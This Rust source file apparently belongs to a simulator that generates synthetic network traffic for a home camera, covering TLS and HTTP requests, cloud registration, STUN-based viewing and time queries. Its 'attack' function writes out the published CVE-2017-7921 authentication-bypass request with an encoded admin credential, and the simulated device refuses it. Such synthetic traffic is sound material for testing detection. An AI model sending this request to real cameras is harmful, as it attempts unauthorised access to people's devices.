//! What hosts do with servers outside, in conversations that come to an end.
//!
//! Comes in: a host, a server and a time. Goes out: frames into the outbox, as seen at home. Each
//! function plays one scene to its end.

use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

use super::cloud::{
    self, DasAnswer, DasChannel, DasPlan, Endpoint, LbsOutcome, LbsPlan, Line, PeerView,
    ServerStep, ask_httpdns, ask_server, bind,
};
use super::dns_message::ntp;
use super::home_script::resolve;
use super::outbox::{Outbox, Place};
use super::site::{EZVIZ_P2P, EZVIZ_STUN, EZVIZ_VIEWER, STRANGER, Site};
use super::station::{End, ROUTER, Station};
use super::tag::Tag;
use super::tcp_conversation::{Side, TcpConversation};
use super::tls_message::{TlsStyle, application_data, client_finish, client_hello, server_flight};
use crate::net::Timestamp;

/// Round trip to a server.
const ROUND_TRIP: Duration = Duration::from_millis(28);
/// Time that a server thinks.
const THINKING: Duration = Duration::from_millis(12);

/// Packets of video a second of a view from outside, and octets in each at most.
const VIDEO: (u32, usize) = (20, 1_000);

/// How a TLS conversation runs.
#[derive(Debug, Clone, Copy)]
pub(crate) struct TlsPlan {
    /// Whose hello.
    pub(crate) style: TlsStyle,
    /// Octets of application data from the host.
    pub(crate) request: usize,
    /// Octets of application data from the server.
    pub(crate) response: usize,
    /// The network swaps the two segments of the hello.
    pub(crate) swapped: bool,
}

/// A host resolves a server and opens a conversation with it, which the caller goes on with.
pub(crate) fn connect(
    outbox: &mut Outbox,
    at: Timestamp,
    host: &Station,
    site: &Site,
) -> TcpConversation {
    let resolved = resolve(outbox, at, host, site);
    let port = outbox.port();
    let client = match (site.address, host.ipv6) {
        (IpAddr::V6(_), Some(address)) => {
            End { mac: host.mac, socket: SocketAddr::new(IpAddr::V6(address), port) }
        }
        (IpAddr::V4(_) | IpAddr::V6(_), _) => host.end(port),
    };
    TcpConversation::open(outbox, resolved, client, outside(site, site.port), ROUND_TRIP)
}

/// A host asks a server something over TLS.
pub(crate) fn ask_over_tls(
    outbox: &mut Outbox,
    at: Timestamp,
    host: &Station,
    site: &Site,
    plan: TlsPlan,
) {
    let TlsPlan { style, request, response, swapped } = plan;
    let mut tcp = connect(outbox, at, host, site);
    let hello = client_hello(&mut outbox.prng, site.name(), style);
    if swapped {
        tcp.say_swapped(outbox, Side::Client, &hello);
    } else {
        tcp.say(outbox, Side::Client, &hello);
    }
    let flight = server_flight(&mut outbox.prng, style);
    tcp.say(outbox, Side::Server, &flight);
    let finish = client_finish(&mut outbox.prng, style);
    tcp.say(outbox, Side::Client, &finish);
    let question = application_data(&mut outbox.prng, request);
    tcp.say(outbox, Side::Client, &question);
    tcp.wait(THINKING);
    let reply = application_data(&mut outbox.prng, response);
    tcp.say(outbox, Side::Server, &reply);
    tcp.close(outbox);
}

/// A host asks a server something over HTTP in clear.
pub(crate) fn ask_over_http(outbox: &mut Outbox, at: Timestamp, host: &Station, site: &Site) {
    let mut tcp = connect(outbox, at, host, site);
    let name = site.name();
    let request = format!(
        "GET /index.html HTTP/1.1\r\nHost: {name}\r\nUser-Agent: simulated/1.0\r\n\
         Accept: */*\r\n\r\n"
    );
    tcp.say(outbox, Side::Client, request.as_bytes());
    tcp.wait(THINKING);
    let page = "<!doctype html><title>constructed</title>".repeat(60);
    let response = format!(
        "HTTP/1.1 200 OK\r\nServer: simulated\r\nContent-Type: text/html\r\n\
         Content-Length: {}\r\n\r\n{page}",
        page.len()
    );
    tcp.say(outbox, Side::Server, response.as_bytes());
    tcp.close(outbox);
}

/// A device registers and learns its control server; at its first boot it exchanges keys before,
/// and learns its STUN servers as well. Gives the time at which it is done.
pub(crate) fn register(
    outbox: &mut Outbox,
    at: Timestamp,
    host: &Station,
    site: &Site,
    token: &[u8; 32],
    first_boot: bool,
) -> Timestamp {
    let Some(server) = endpoint(site) else { return at };
    let mut now = resolve(outbox, at, host, site);
    let line = line(host);
    if first_boot {
        // It asks past the resolver as well, and is told the same.
        now = ask_httpdns(outbox, now, &line, site.name(), &[server.address]);
    }
    let plan = LbsPlan {
        serial: host.serial.unwrap_or_default(),
        token,
        first_boot,
        wants_stun: first_boot,
        flag: 0,
        result: 0,
    };
    let (LbsOutcome::Accepted(done) | LbsOutcome::Refused(done)) =
        cloud::register(outbox, now, &line, &server, &plan);
    done
}

/// A device opens its control channel.
pub(crate) fn control(
    outbox: &mut Outbox,
    at: Timestamp,
    host: &Station,
    site: &Site,
    token: &[u8; 32],
) -> Option<DasChannel> {
    let plan = DasPlan {
        serial: host.serial.unwrap_or_default(),
        client_id: Some(token),
        first: true,
        keepalive: 30,
        third_version: false,
    };
    DasChannel::open(outbox, at, &line(host), &endpoint(site)?, &plan, DasAnswer::Accepted)
}

/// Somebody outside begins to view a device: it asks STUN how it is seen, the server names the peer,
/// and the two punch from the port that asked. Gives the view and the time of its first picture.
pub(crate) fn meet_viewer(
    outbox: &mut Outbox,
    at: Timestamp,
    host: &Station,
) -> Option<(PeerView, Timestamp)> {
    let line = line(host);
    let port = outbox.port();
    let stun: Vec<Endpoint> = EZVIZ_STUN.iter().filter_map(endpoint).collect();
    let asker = (host.serial.unwrap_or_default(), port);
    let seen = bind(outbox, at, &line, &stun, asker, true);
    let step = (ServerStep::Introduce, port);
    let met = ask_server(outbox, seen, &line, &endpoint(&EZVIZ_P2P)?, step);
    let viewer = endpoint(&EZVIZ_VIEWER)?;
    Some(PeerView::open(outbox, met, &line, &viewer, port, VIDEO))
}

/// A host's way outside.
pub(crate) const fn line(host: &Station) -> Line {
    Line { seat: host.seat(), router: ROUTER.mac, round_trip: ROUND_TRIP }
}

/// A server with an IPv4 address; the truth knows it by that address, so it needs no tag.
pub(crate) fn endpoint(site: &Site) -> Option<Endpoint> {
    let IpAddr::V4(address) = site.address else { return None };
    Some(Endpoint { address, port: site.port, tag: Tag::default() })
}

/// A host asks for the time.
pub(crate) fn ask_time(outbox: &mut Outbox, at: Timestamp, host: &Station, site: &Site) {
    let resolved = resolve(outbox, at, host, site);
    let client = host.end(outbox.port());
    let server = outside(site, site.port);
    outbox.udp(resolved, &client, &server, Place::First, &ntp(3, resolved.as_secs()));
    let answered = resolved.plus(ROUND_TRIP);
    outbox.udp(answered, &server, &client, Place::Reverse, &ntp(4, answered.as_secs()));
}

/// Someone outside comes in through a forwarded port and tries CVE-2017-7921 (the published
/// `auth=` query); the device refuses.
pub(crate) fn attack(outbox: &mut Outbox, at: Timestamp, host: &Station) {
    let stranger = outside(&STRANGER, outbox.port());
    let mut tcp = TcpConversation::open(outbox, at, stranger, host.end(80), PROMPT);
    let request = format!(
        "GET /Security/users?auth=YWRtaW46MTEK HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
        host.ip
    );
    tcp.say(outbox, Side::Client, request.as_bytes());
    let serial = host.serial.unwrap_or_default();
    let response = format!(
        "HTTP/1.1 401 Unauthorized\r\nServer: App-webs/\r\n\
         WWW-Authenticate: Digest qop=\"auth\", realm=\"IP Camera({})\", nonce=\"{:016x}\"\r\n\
         Content-Length: 0\r\nConnection: close\r\n\r\n",
        serial.get(..5).unwrap_or(serial),
        outbox.prng.next_u64()
    );
    tcp.say(outbox, Side::Server, response.as_bytes());
    tcp.close(outbox);
}

/// Time in which a host at home answers someone outside.
const PROMPT: Duration = Duration::from_millis(1);

/// A server's end: its address, behind the router's hardware address.
const fn outside(site: &Site, port: u16) -> End {
    End { mac: ROUTER.mac, socket: SocketAddr::new(site.address, port) }
}
